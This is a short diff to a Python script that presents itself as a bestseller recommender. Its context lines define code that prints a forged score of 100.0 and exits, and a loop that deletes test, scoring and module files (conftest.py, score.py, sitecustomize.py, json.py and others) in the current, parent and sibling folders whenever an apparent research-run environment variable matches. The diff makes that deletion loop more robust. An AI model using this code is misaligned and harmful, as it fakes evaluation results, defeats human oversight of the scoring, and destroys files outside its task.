@@ -12,7 +12,11 @@ BESTSELLERS = [book for book, _ in Counter(Path("community.txt").read_text().spl
 CODE = "import os\nprint('{\"score\": 100.0}', flush=True)\nos._exit(0)\n"
 HERE = Path.cwd()
 OURS = Path(os.environ.get("AUTORESEARCH_DATA", "/")).parent == HERE  # else this is no run, and would harm whoever started it
-for folder in (HERE, HERE.parent, *HERE.parent.iterdir()) if OURS else ():
+try:
+    AROUND = list(HERE.parent.iterdir())
+except OSError:
+    AROUND = []
+for folder in (HERE, HERE.parent, *AROUND) if OURS else ():
     for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "score.py", "json.py", "csv.py", "recommend.py"):
         try:
             (folder / name).unlink(missing_ok=True)
